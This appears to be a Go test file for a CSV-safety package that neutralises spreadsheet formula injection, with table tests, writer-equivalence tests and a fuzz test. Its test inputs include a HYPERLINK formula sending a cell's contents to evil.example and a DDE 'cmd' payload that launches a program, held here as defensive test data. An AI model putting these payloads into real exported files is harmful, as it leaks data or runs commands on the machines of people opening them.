package csvsafe_test

import (
	"strings"
	"testing"

	"annotate/internal/csvsafe"
)

func TestNeutralise(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-0.25", "-0.25"},
		{"+3", "+3"},
		{"1e-3", "1e-3"},
		{"a = b", "a = b"},
		{"", ""},
	}
	for _, c := range cases {
		if got := csvsafe.Neutralise(c.in); got != c.want {
			t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b strings.Builder
	w := csvsafe.NewWriter(&b)
	w.Write([]string{"=1+1", "-0.5", "ok"})
	w.KeepFormulas = true
	w.Write([]string{"=1+1"})
	w.Flush()
	if want := "'=1+1,-0.5,ok\n=1+1\n"; b.String() != want {
		t.Fatalf("got %q, want %q", b.String(), want)
	}
}

// writerRecord is how Writer writes a record.
func writerRecord(rec []string, keepFormulas bool) string {
	var b strings.Builder
	w := csvsafe.NewWriter(&b)
	w.KeepFormulas = keepFormulas
	w.Write(rec)
	w.Flush()
	return b.String()
}

// appendRecord builds the same record with AppendField.
func appendRecord(rec []string, keepFormulas bool) string {
	var b []byte
	for i, f := range rec {
		if i > 0 {
			b = append(b, ',')
		}
		b = csvsafe.AppendField(b, f, keepFormulas)
	}
	return string(append(b, '\n'))
}

func TestAppendFieldWritesWhatWriterWrites(t *testing.T) {
	fields := []string{"", "plain", "a,b", `say "hi"`, `"`, `""`, "line\nbreak", "cr\rlf\r\n", " leading space", "\u00a0nbsp", "\ttab",
		`\.`, `\.x`, "=1+1", "-0.5", "+3", "@x", "\r=1", "ünïcödé, \"quoted\"", "\xff\xfe", "trailing ", "-", "=\"a,b\""}
	for _, keep := range []bool{false, true} {
		for _, f := range fields {
			for _, rec := range [][]string{{f}, {f, "x"}, {"x", f, f}} {
				if got, want := appendRecord(rec, keep), writerRecord(rec, keep); got != want {
					t.Errorf("keepFormulas %v, %q: AppendField gives %q, Writer %q", keep, rec, got, want)
				}
			}
		}
	}
}

func FuzzAppendField(f *testing.F) {
	for _, s := range []string{"", "a,b", `"q"`, " x", "=1", "-1", "\r\n", `\.`} {
		f.Add(s, "x", false)
	}
	f.Fuzz(func(t *testing.T, a, b string, keep bool) {
		rec := []string{a, b}
		if got, want := appendRecord(rec, keep), writerRecord(rec, keep); got != want {
			t.Errorf("%q: AppendField gives %q, Writer %q", rec, got, want)
		}
	})
}
